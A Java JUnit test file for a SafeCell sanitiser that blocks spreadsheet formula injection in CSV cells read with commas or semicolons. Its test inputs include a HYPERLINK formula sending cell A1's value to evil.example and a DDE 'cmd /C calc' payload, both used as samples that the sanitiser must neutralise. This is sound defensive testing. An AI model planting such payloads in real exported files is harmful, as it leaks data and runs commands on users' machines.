package org.parvis.shared;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class SafeCellTest {

    /** Read with commas or, as French spreadsheets do, with semicolons, no cell begins as a formula does. */
    @ParameterizedTest
    @ValueSource(strings = {
        "=1+1", " =1+1", "papiers ;=HYPERLINK(\"http://evil.example/?\"&A1;\"ici\") ;@SUM(1)", "a\n=cmd|' /C calc'!A0",
        "a\r\n+1", "a;\"=1\"", "a; \"\"=1", "a;\t-1", "a;＝1", "a\u2028=1", "a;\u00A0=1", "\"=1\"", "\t=1", "\t1",
        "=1;=2;\n=3\n\n=4"
    })
    void beginsNoFormulaInAnyReading(String words) {
        for (String cell : SafeCell.of(words).split("[;\\n\\r\\u2028]")) {
            String bare = cell.replaceAll("(?U)^[\\s\"]+", "");
            assertThat(bare).as(SafeCell.of(words)).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-");
            assertThat(bare).doesNotStartWith("@").doesNotStartWith("＝");
        }
        assertThat(SafeCell.of(words).replace("'", "")).as("nothing is lost").isEqualTo(words.replace("'", ""));
    }

    @ParameterizedTest
    @ValueSource(strings = {"\t1", "\rx", "\nfoo;=1"})
    void beginsWithNoTabOrLineBreak(String words) {
        assertThat(SafeCell.of(words)).startsWith("'" + words.charAt(0));
    }

    @ParameterizedTest
    @CsvSource({"Un trou; attention", "10 rue Houdan", "2+2=4", "l’eau - et le gaz"})
    void leavesOrdinaryWordsAlone(String words) {
        assertThat(SafeCell.of(words)).isEqualTo(words);
    }
}
